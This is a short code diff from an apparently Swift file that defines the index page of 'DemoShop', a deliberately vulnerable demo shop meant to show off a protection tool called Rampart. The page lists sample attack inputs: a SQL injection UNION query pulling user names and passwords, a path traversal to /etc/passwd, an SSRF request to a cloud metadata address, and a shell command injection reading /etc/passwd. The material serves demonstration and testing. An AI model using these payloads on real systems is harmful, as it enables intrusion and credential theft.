@@ -175,7 +175,7 @@ public enum DemoShop {
     static let indexPage = """
     <!doctype html><html><head><meta charset="utf-8"><title>DemoShop (deliberately vulnerable)</title></head>
     <body><h1>DemoShop</h1><p>A deliberately vulnerable shop protected by Rampart. Try:</p><ul>
-    <li><a href="/search?q=mug">/search?q=mug</a> — then <code>/search?q=' UNION SELECT name, password FROM users--</code></li>
+    <li><a href="/search?q=mug">/search?q=mug</a> — then <code>/search?q=' UNION SELECT name || ':' || password, 0 FROM users--</code></li>
     <li><a href="/download?file=invoice-1001.txt">/download?file=invoice-1001.txt</a> — then <code>../../../../etc/passwd</code></li>
     <li><code>/preview?url=http://169.254.169.254/latest/meta-data/</code> (SSRF)</li>
     <li><a href="/ping?host=127.0.0.1">/ping?host=127.0.0.1</a> — then <code>127.0.0.1; cat /etc/passwd</code></li>
